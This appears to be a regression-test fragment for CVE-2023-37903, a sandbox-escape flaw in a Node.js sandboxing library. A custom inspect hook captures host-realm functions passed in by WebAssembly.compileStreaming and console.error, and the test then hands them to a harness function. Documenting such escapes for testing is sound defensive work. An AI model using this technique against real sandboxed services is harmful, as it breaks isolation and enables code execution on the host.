// GHSA-g644-9gfx-q4q4 CVE-2023-37903
// Nodejs.util.inspect.custom is called with functions of the host.
const custom = Symbol.for('nodejs.util.inspect.custom');
const seen = [];
const object = { [custom]: (...args) => { seen.push(...args); return 'x'; }, valueOf: undefined, constructor: undefined };
try { WebAssembly.compileStreaming(object).catch(() => {}); } catch {}
try { console.error(object); } catch {}
await 0; await 0;
for (const item of seen) await useObject(item);
return found;
